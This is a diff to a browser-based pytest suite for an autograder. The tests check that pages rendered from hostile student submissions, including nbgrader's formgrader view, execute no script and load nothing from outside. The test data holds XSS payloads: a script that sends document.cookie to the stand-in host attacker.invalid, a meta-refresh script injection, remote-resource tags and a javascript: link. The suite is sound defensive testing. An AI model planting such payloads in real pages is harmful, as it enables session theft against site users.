@@ -13,10 +13,14 @@ import pytest
 from report_fixtures import assignment, check, question, record, rejected
 from test_export_gradebook import make_course
 
+from autograder import grade
 from autograder.export import autograded, gradebook
+from autograder.grade import HandIn
 from autograder.model import Finding, Severity, Status
 from autograder.report import course as course_page
 from autograder.report import feedback, paper
+from autograder.sandbox import Sandbox
+from tests.attacks.exam import Paper, set_small
 
 playwright = pytest.importorskip("playwright.sync_api")
 CHROMIUM = next(
@@ -45,6 +49,10 @@ PAYLOADS = (
     "{{ ''.__class__ }} {% raw %} ${7*7} <!-- --> ]]> \u202e \ud800 \x00",
     f'<meta http-equiv=refresh content="0;url=data:text/html,<script>{OWNED}</script>">',
     "<base href=http://attacker.invalid/><link rel=stylesheet href=//attacker.invalid/a.css><style>@import '//attacker.invalid/b.css';</style>",
+    "<script>new Image().src='http://attacker.invalid/?'+document.cookie; fetch('http://attacker.invalid/f')</script>"
+    "<img src=http://attacker.invalid/i.png><video poster=http://attacker.invalid/v><audio src=http://attacker.invalid/a autoplay>"
+    "<object data=http://attacker.invalid/o></object><embed src=http://attacker.invalid/e><form action=http://attacker.invalid><input autofocus></form>"
+    "<div style='background:url(http://attacker.invalid/c)'>x</div> ![m](http://attacker.invalid/m.png) [l][r]\n\n[r]: javascript:alert(1)",
 )
 EVERYTHING = "\n".join(PAYLOADS)
 
@@ -175,6 +183,65 @@ def test_nbgraders_feedback_would_run_an_answer_outside_its_fence(
     visit = Visit(browser, nbgraders_feedback(course))
 
     assert visit.page.title() == "owned"
+
+
+def formgraders_page(root: Path, path: Path) -> Path:
+    """Render our autograded notebook as formgrader does for the person who marks it."""
+    from nbconvert.exporters import HTMLExporter
+    from nbgrader.server_extensions.formgrader import handlers
+    from traitlets.config import Config
+
+    gradebook.update(root, KNN, [(hostile_record(EVERYTHING), None)])
+    config = Config()
+    config.HTMLExporter.template_name = "formgrade"
+    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
+    resources = {
+        "assignment_id": "knn", "notebook_id": "knn", "submission_id": "s", "index": 0, "total": 1, "base_url": "", "student": "1",
+        "last_name": None, "first_name": None, "notebook_path": "x",
+    }  # fmt: skip
+    (notebook,) = (root / "autograded").rglob("knn.ipynb")
+    return saved(path, HTMLExporter(config=config).from_filename(str(notebook), resources=resources)[0])
+
+
+def test_formgraders_page_of_our_notebook_runs_nothing(browser: Any, course: Path, tmp_path: Path) -> None:
+    visit = Visit(browser, formgraders_page(course, tmp_path / "page.html"))
+
+    assert visit.page.title() != "owned"
+    assert not any("attacker" in url for url in visit.elsewhere)
+    assert "parent.document.title" in visit.page.content()
+
+
+def test_formgraders_page_would_run_an_answer_outside_its_fence(
+    browser: Any, course: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(autograded, "written", lambda text, blank: PAYLOADS[2])
+
+    visit = Visit(browser, formgraders_page(course, tmp_path / "page.html"))
+
+    assert visit.page.title() == "owned"
+
+
+def test_the_pages_of_a_hostile_submission_run_nothing(browser: Any, tmp_path: Path) -> None:
+    """All the way: handed in, run, marked, shown."""
+    text = "x = 0  # " + EVERYTHING.replace("\n", " ").replace("\ud800", "").replace("\x00", "")
+    handed = Paper(
+        {"double": f"{text}\nreturn x", "total": f"raise ValueError({text!r})"},
+        fields={"name": PAYLOADS[0], "group": PAYLOADS[2]}, written={"why": EVERYTHING.replace("\ud800", "").replace("\x00", "")},
+    )  # fmt: skip
+    exam = set_small()
+    with Sandbox.start() as sandbox:
+        made = grade.grade_one(HandIn(handed.zip(), f"{PAYLOADS[2]}.zip", "2022999999"), exam, sandbox).record
+    assert (made.status, made.name) == ("graded", PAYLOADS[0])
+
+    pages = {"student": feedback.page(made, exam.assignment), "course": course_page.page([made], exam.assignment)}
+    for name, html in pages.items():
+        visit = Visit(browser, saved(tmp_path / f"{name}.html", html))
+
+        assert visit.page.title() != "owned"
+        assert visit.elsewhere == []
+        assert (
+            visit.page.locator("script, iframe, img, object, embed, form, base, link, [onerror], [onload]").count() == 0
+        )
 
 
 def test_a_megabyte_of_code_opens_quickly_enough(browser: Any, tmp_path: Path) -> None:
